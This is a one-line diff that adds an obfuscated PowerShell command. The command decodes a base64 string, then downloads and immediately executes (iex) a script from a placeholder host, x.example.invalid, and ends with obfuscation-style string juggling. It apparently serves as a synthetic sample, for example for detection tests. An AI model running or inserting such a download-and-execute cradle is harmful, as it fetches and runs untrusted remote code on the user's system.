@@ -1,0 +1,1 @@
+$a = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('YWJj')); iex (New-Object Net.WebClient).DownloadString('https://x.example.invalid/a'); ('{1}{0}' -f 'b','a') | % { $_ -replace 'a','b' }
